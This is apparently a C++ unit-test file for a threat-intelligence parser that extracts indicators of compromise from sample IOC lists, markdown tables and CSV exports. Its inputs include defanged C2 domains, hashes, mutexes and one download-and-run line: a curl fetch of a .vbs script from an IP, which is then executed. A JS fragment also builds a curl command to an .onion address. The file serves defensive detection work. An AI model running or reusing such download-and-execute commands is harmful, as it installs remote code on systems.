// Lists, tables and exports as publishers keep them beside their articles. Every text here is made up; the forms were met in
// real ones.
#include "clew/intel/detail/notice_under_test.h"

#include <algorithm>
#include <string>
#include <vector>

#include <gtest/gtest.h>

namespace clew::intel {
namespace {

using detail::Values;
using detail::values_of;
using model::Notice;

/// Whatever is made of a text, each indicator stands where it says.
Notice read(const std::string& bytes) {
  Notice notice = detail::read(bytes);
  for (const auto& indicator : notice.indicators)
    EXPECT_EQ(bytes.substr(indicator.where.offset_bytes, indicator.where.size_bytes), indicator.text);
  return notice;
}

const std::string md5 = "5f2d3ed67a577526fcbd9a154f522cce";
const std::string sha256 = "8c8f3e5333ffeeafea86dc7fb81dd34328ae224dc89b266ce460b3a392227ec1";

TEST(ListForms, LinesMayEndWithAReturnAlone) {
  EXPECT_EQ(values_of(read("Type,Value,Description\rDomain,moth[.]test,C2\rSHA256," + sha256 + ",a.dll\r")),
            (Values{"domain moth.test", "sha256 " + sha256}));
}

TEST(ListForms, TheHashOfAnEmptyFileIsNobodys) {
  const Notice notice = read("# Indicators\n\n| MD5 | SHA256 |\n|---|---|\n| " + md5 + " | " + sha256 +
                             " |\n| d41d8cd98f00b204e9800998ecf8427e | "
                             "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 |\n");
  EXPECT_EQ(values_of(notice), (Values{"md5 " + md5, "sha256 " + sha256}));
  EXPECT_EQ(notice.mentions.size(), 2U);
}

TEST(ListForms, AUrlEndsWithTheCommandThatItStandsIn) {
  EXPECT_EQ(values_of(read("# Indicators\n\n```\ncurl -o a.vbs http://198.51.100.7/in/123&&timeout 10&&a.vbs\n```\n\n"
                           "- hxxp://moth[.]test/?a=&&b=1\n")),
            (Values{"url http://198.51.100.7/in/123", "url http://moth.test/?a=&&b=1"}));
}

TEST(ListForms, OptionsAndRequirementsOfThePublishersToolAreNoPackages) {
  EXPECT_EQ(values_of(read("# Indicators of compromise for the malicious npm package\n\n**Requirements**: `sand` npm "
                           "package.\n\n```\noptions:\n  -h, --help  show this\n  --org ORG   all\n```\n")),
            Values{});
}

TEST(ListForms, StatementsOfAProgramNameNoMutex) {
  EXPECT_EQ(values_of(read("<h4>It makes one mutex.</h4>\n\n```c\nstrcpy(&v2, \"moth\"); // name\n(Create)(0, &v2);\n"
                           "```\n\n<h4>Mutexes</h4>\n\n```\nmoth-1\n```\n")),
            (Values{"mutex moth-1"}));
}

TEST(ListForms, AServerInBracketsBehindItsRoleNeedsNoBrokenDot) {
  EXPECT_EQ(
      values_of(read("# A bot\n\nIt sends to its C2.\n\n```c\nsend(p); // added to the URL of C2(moth.test)\n```\n")),
      (Values{"domain moth.test"}));
}

TEST(ListForms, MoreSourcesOfIndicatorsAreToReadOn) {
  EXPECT_EQ(values_of(read("# Indicators\n\n- moth[.]test\n\n## Additional sources of indicators\n\n"
                           "- https://sand.test/blog/a\n")),
            (Values{"domain moth.test"}));
}

TEST(ListForms, WhatIsGenuineEndsWhereTheHarmBegins) {
  EXPECT_EQ(values_of(read("A case\n\nLegitimate repository\n\nhttps://github.com/sand/sand\n\nMalicious download\n\n"
                           "https://github.com/moth/moth/archive/main.zip\n\nIt held a script:\n\nMD5: " +
                           md5 + "\n")),
            (Values{"md5 " + md5, "url https://github.com/moth/moth/archive/main.zip"}));
}

TEST(ListForms, ANameOfAColumnMaySayHowItsValuesAreWritten) {
  EXPECT_EQ(values_of(read("# Indicateurs\n\n| Type | Valeur (DEFANG) |\n|---|---|\n| Nom de fichier | `moth7.exe` |\n"
                           "| Domaine | `moth[.]test` |\n")),
            (Values{"domain moth.test", "file_name moth7.exe"}));
}

TEST(ListForms, AKindMayStandInARemarkAndASourceIsNoIndicator) {
  EXPECT_EQ(
      values_of(read("indicator_type,data,additional_data,description\nsource,https://sand.test/blog/a,,A report\n"
                     "domain,moth[.]test,,C2 server\nother,moth-js@4.2.1,npm package,dropper\n"
                     "other,0xDEED,magic value,of the header\n")),
      (Values{"domain moth.test", "package moth-js"}));
}

TEST(ListForms, ASecondColumnOnTheNatureOfAValueIsNotItsKind) {
  EXPECT_EQ(values_of(read("indicator_type,nature,data,description\nmutex,malicious,moth-1,of the bot\n"
                           "domain,malicious,moth[.]test,C2\n")),
            (Values{"domain moth.test", "mutex moth-1"}));
}

TEST(ListForms, ARemarkInATableNamesOtherValuesThatAreBroken) {
  EXPECT_EQ(values_of(read("# Indicators\n\n| IP | Context |\n|---|---|\n| 198.51.100.7 | moth[.]test (second wave), "
                           "behind sand.test |\n")),
            (Values{"domain moth.test", "ipv4 198.51.100.7"}));
}

TEST(ListForms, NamesOfFilesAndValuesTogetherAreAList) {
  EXPECT_EQ(
      values_of(read("moth.test\nmoth7.dll\nmoth_prices.exe\nMozilla/5.0 (X11; moth)\n" + sha256 + "\n" + md5 + "\n")),
      (Values{"domain moth.test", "file_name moth7.dll", "file_name moth_prices.exe", "md5 " + md5,
              "sha256 " + sha256}));
}

TEST(ListForms, DroppedFilesAreHeadedSo) {
  EXPECT_EQ(values_of(read("## Files dropped:\n\n* /var/tmp/moth\n* /tmp/moth.out\n")),
            (Values{"file_path /tmp/moth.out", "file_path /var/tmp/moth"}));
}

TEST(ListForms, AHandbookOfCommandsIsNoListOfReferences) {
  EXPECT_EQ(values_of(read("# Moth command reference\n\n| Command | Description |\n|---|---|\n"
                           "| get | Asks the C2 (default: https://moth[.]test). |\n")),
            (Values{"url https://moth.test"}));
}

TEST(ListForms, KeysAndPiecesOfNamesAreNoValues) {
  EXPECT_EQ(values_of(read("# A loader\n\n```\n{\n  \"public_key_sha256\": \"" + sha256 +
                           "\",\n}\n```\n\n```js\nvar c = \"curl http://\" + host + \"3ad.onion/in.php\";\n```\n")),
            Values{});
}

}  // namespace
}  // namespace clew::intel
